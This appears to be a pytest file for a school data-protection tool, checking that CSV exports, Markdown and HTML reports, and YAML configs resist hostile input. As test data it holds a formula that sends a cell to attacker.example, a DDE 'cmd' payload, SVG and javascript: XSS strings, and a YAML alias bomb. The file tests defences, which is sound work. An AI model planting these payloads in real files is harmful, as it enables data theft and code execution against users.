"""Input that reaches people, and bounds on what dataward reads (issue 16): formulas in
every CSV dataward writes, HTML in the Markdown report, YAML alias bombs and duplicate
keys, an oversized roster field, and a deleted audit.head."""
from __future__ import annotations

import csv
import io
import time

import pytest

from tests.retention.conftest import School, configured, school  # noqa: F401 - fixtures
from tests.retention.test_commands import make_plan

FORMULA = '=HYPERLINK("http://attacker.example/?x="&A1,"Approved")'
SVG = "<svg onload=alert(1)>"


def _cells(text: str) -> list[str]:
    return [c for row in csv.reader(io.StringIO(text)) for c in row]


def _runs_as_formula(cell: str) -> bool:
    return cell[:1] in ("=", "+", "-", "@", "\t", "\r") or cell.lstrip()[:1] in ("=", "+", "@")


def test_approver_formula_is_text_in_every_deletion_record(cli, configured, dw_home):  # noqa: F811 - the fixtures imported above
    plan_id = make_plan(cli)
    assert cli("retention", "approve", plan_id, "--by", FORMULA).exit_code == 0
    assert cli("retention", "apply", plan_id).exit_code == 0
    r = cli("retention", "purge", "--yes", env={"DATAWARD_RETENTION__GRACE_DAYS": "0"})
    assert r.exit_code == 0, r.output
    printed = cli("retention", "deletions").stdout
    (record,) = (dw_home / "retention" / "deletion-records").glob("*.csv")
    for text in (printed, record.read_text()):
        rows = list(csv.DictReader(io.StringIO(text)))
        assert rows and all(row["approved_by"] == "'" + FORMULA for row in rows)
        assert not any(_runs_as_formula(c) for c in _cells(text))


def test_formulas_in_asset_fields_are_text_in_the_register(cli, tmp_path, gpg_home, dw_home,
                                                          monkeypatch):
    from tests.assets.conftest import INVENTORY, NwipeLogs
    monkeypatch.setenv("DATAWARD_ASSETS__SIGNING_KEY", gpg_home["school"])
    monkeypatch.setenv("DATAWARD_ASSETS__GNUPG_HOME", gpg_home["home"])
    inv = tmp_path / "inventory.csv"
    inv.write_text(INVENTORY)
    assert cli("assets", "import", inv).exit_code == 0
    r = cli("dispose", "record", "OAK-0042", "--method", "clear", "--route", "waste",
            "--recipient", "@SUM(1+1)*cmd|' /C calc'!A0", "--weee-note", "WTN-1",
            "--authorised-by", FORMULA, "--technician", "-2+3", "--date", "2026-03-12",
            "--evidence", NwipeLogs.ZERO_OK)
    assert r.exit_code == 0, r.output
    out = tmp_path / "register.csv"
    assert cli("dispose", "register", "--format", "csv", "--out", out).exit_code == 0
    text = out.read_text()
    (row,) = csv.DictReader(io.StringIO(text))
    assert row["authorised_by"] == "'" + FORMULA and row["technician"] == "'-2+3"
    assert not any(_runs_as_formula(c) for c in _cells(text))


def test_markdown_report_escapes_a_hostile_folder_name(cli, tmp_path, dw_home):
    share = tmp_path / "share"
    folder = share / SVG / "[click](javascript:alert(1))"
    folder.mkdir(parents=True)
    (folder / "notes.txt").write_text("Pupil NHS 943 476 5919, UPN U820200014013\n")
    (dw_home / "dataward.yaml").write_text(
        f"school: {{name: '<b>Oakfield</b>'}}\n"
        f"sources:\n  - {{name: pupils, path: '{share}', audience: pupils}}\n")
    assert cli("scan").exit_code == 0
    r = cli("report", "--format", "md", "--out", tmp_path / "r.md")
    assert r.exit_code == 0, r.output
    md = (tmp_path / "r.md").read_text()
    assert "| pupils/&lt;svg onload=alert(1)&gt; | pupils |" in md   # the area, as text
    assert "<svg" not in md and "<b>" not in md                       # never live HTML
    assert cli("report", "--out", tmp_path / "r.html").exit_code == 0
    html = (tmp_path / "r.html").read_text()
    assert "&lt;svg onload=alert(1)&gt;" in html and "<svg onload" not in html


@pytest.mark.parametrize("cell", [
    "=1+1", "+1+1", "-1+1", "@SUM(A1)", "\t=1+1", "\r=1+1", "  =1+1", "\uff1d1+1",
    "=HYPERLINK(\"http://x.example\")", "=cmd|' /C calc'!A0"])
def test_every_formula_start_is_neutralised(cell):
    # The prefixes OWASP's CSV-injection page lists, and a full-width equals sign.
    from dataward.cells import csv_cell
    assert csv_cell(cell) == "'" + cell
    assert csv_cell("Ann Smith (DPO)") == "Ann Smith (DPO)" and csv_cell(-5) == -5


BOMB = ("a: &a [lol, lol, lol, lol, lol, lol, lol, lol, lol]\n"
        + "".join(f"{n}: &{n} [{', '.join(['*' + p] * 9)}]\n"
                  for p, n in zip("abcdefgh", "bcdefghi"))
        + "school: {name: *i}\n")


def test_yaml_alias_bomb_in_the_config_is_refused_at_once(cli, dw_home):
    (dw_home / "dataward.yaml").write_text(BOMB)
    started = time.perf_counter()
    r = cli("config", "check")
    assert r.exit_code == 78, r.output
    assert "alias" in r.output and "line" in r.output
    assert time.perf_counter() - started < 30   # refused, not expanded (the bug took minutes)


def test_duplicate_keys_in_the_config_are_refused(cli, dw_home):
    (dw_home / "dataward.yaml").write_text(
        "backup:\n  write_only: true\n  keep_daily: 7\n  write_only: false\n")
    r = cli("config", "check")
    assert r.exit_code == 78, r.output
    assert "'write_only' is given twice" in r.output and "line 4" in r.output


def test_duplicate_keys_in_the_retention_schedule_are_refused(tmp_path):
    from dataward.errors import ConfigError
    from dataward.retention.schedule import load_rules
    f = tmp_path / "schedule.yaml"
    f.write_text("pupil_images:\n  days_after_leaving: 30\n  days_after_leaving: 0\n")
    with pytest.raises(ConfigError, match="given twice"):
        load_rules(f)


def test_yaml_anchors_within_bounds_still_load(dw_home):
    from dataward.settings import load_settings
    (dw_home / "dataward.yaml").write_text(
        "school: {name: &n Oakfield Primary School}\n"
        "transfer: {recipient_limits_mb: {*n : 4}}\n")
    s = load_settings()
    assert s.transfer.recipient_limits_mb == {"oakfield primary school": 4}


def test_a_roster_field_over_128_kib_is_malformed_input(cli, dw_home, tmp_path):
    roster = tmp_path / "pupils.csv"
    roster.write_text("Forename,Surname,Notes\nAmelia,Khan," + "x" * 140_000 + "\n")
    share = tmp_path / "share"
    share.mkdir()
    (share / "a.txt").write_text("hello\n")
    r = cli("scan", share, "--roster", roster)
    assert r.exit_code == 65, r.output
    assert "internal error" not in r.output and "not readable as CSV" in r.output


def test_audit_verify_notices_a_deleted_audit_head(cli, dw_home):
    assert cli("init").exit_code == 0          # an audited step: the log has records
    assert cli("audit", "verify").exit_code == 0
    (dw_home / "audit.head").unlink()
    r = cli("audit", "verify")
    assert r.exit_code == 6, r.output
    assert "audit.head is missing" in " ".join(r.output.split())
